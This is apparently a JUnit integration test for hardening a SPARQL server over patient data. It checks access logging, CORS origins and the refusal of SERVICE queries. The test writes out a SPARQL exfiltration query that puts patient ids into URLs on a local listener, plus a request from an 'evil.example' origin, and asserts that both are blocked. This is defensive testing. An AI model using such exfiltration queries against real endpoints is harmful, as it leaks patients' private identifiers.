package org.mcrckg.endpoint;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.SocketTimeoutException;
import java.net.URI;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * {@code mcrc serve} as a process with the hardening options: an access log file (no query
 * text, no SERVICE URL, no patient id), a CORS origin list, and SERVICE refused with nothing
 * reaching a loopback listener.
 */
class ServeHardeningIT {

    @TempDir
    Path dir;

    @Test
    void accessLogCorsListAndNoService() throws Exception {
        Path store = dir.resolve("store");
        Processes.Run load = Processes.run("load", "--store", store.toString(), "src/test/resources/vignettes/V01.csv");
        assertEquals(0, load.exit(), load.err());
        Path log = dir.resolve("logs/access.log");
        assertEquals(2, Processes.run("serve", "--store", store.toString(), "--access-log-queries").exit(), "--access-log-queries needs --access-log");
        assertEquals(2, Processes.run("serve", "--store", store.toString(), "--cors-origin", "null").exit(), "null is not an origin to trust");

        Processes.Started serve = Processes.start("serve", "--store", store.toString(), "--port", "0", "--access-log", log.toString(),
                "--cors-origin", "https://board.example");
        try (ServerSocket listener = new ServerSocket(0, 50, InetAddress.getLoopbackAddress())) {
            listener.setSoTimeout(500);
            URI sparql = Processes.awaitServing(serve).resolve("mcrc/sparql");

            String exfil = "PREFIX mcrc: <https://w3id.org/mcrc-kg/mcrc#> SELECT ?id WHERE { ?p mcrc:patient_id ?id "
                    + "BIND(IRI(CONCAT('http://127.0.0.1:" + listener.getLocalPort() + "/exfil/', ENCODE_FOR_URI(?id))) AS ?u) SERVICE SILENT ?u { ?s ?q ?o } }";
            HttpResponse<String> refused = Http.postForm(sparql, "query=" + Http.enc(exfil));
            assertEquals(400, refused.statusCode(), refused.body());
            try {
                listener.accept();
                throw new AssertionError("the server connected to the listener");
            } catch (SocketTimeoutException expected) {
                // nothing came
            }

            HttpResponse<String> good = Http.get(URI.create(sparql + "?query=" + Http.enc("SELECT ?id WHERE { ?p <https://w3id.org/mcrc-kg/mcrc#patient_id> ?id }")),
                    "Origin", "https://board.example", "Accept", "text/csv");
            assertEquals(200, good.statusCode());
            assertEquals("https://board.example", good.headers().firstValue("Access-Control-Allow-Origin").orElse(null));
            assertNull(good.headers().firstValue("Access-Control-Allow-Credentials").orElse(null));
            HttpResponse<String> other = Http.get(URI.create(sparql + "?query=" + Http.enc("ASK {}")), "Origin", "http://evil.example");
            assertNull(other.headers().firstValue("Access-Control-Allow-Origin").orElse(null));

            Processes.signal(serve.process(), Processes.ignoresSigint(serve.process()) ? "TERM" : "INT");
            assertTrue(serve.process().waitFor(60, TimeUnit.SECONDS), "serve did not stop");
        } finally {
            serve.process().destroyForcibly();
        }
        List<String> lines = Files.readAllLines(log);
        assertEquals(3, lines.size(), lines.toString());
        assertTrue(lines.get(0).matches("\\S+Z 127\\.0\\.0\\.1 POST /mcrc/sparql 400 \\d+ \\d+ms"), lines.get(0));
        assertTrue(lines.get(1).matches("\\S+Z 127\\.0\\.0\\.1 GET /mcrc/sparql 200 [1-9]\\d* \\d+ms"), lines.get(1));
        for (String line : lines) {
            assertFalse(line.contains("exfil") || line.contains("V01") || line.contains("SELECT") || line.contains("query="), line);
        }
        String logs = serve.err() + Processes.read(serve.outFile());
        assertFalse(logs.contains("/exfil/"), "a SERVICE URL reached the server's output: " + logs);
    }
}
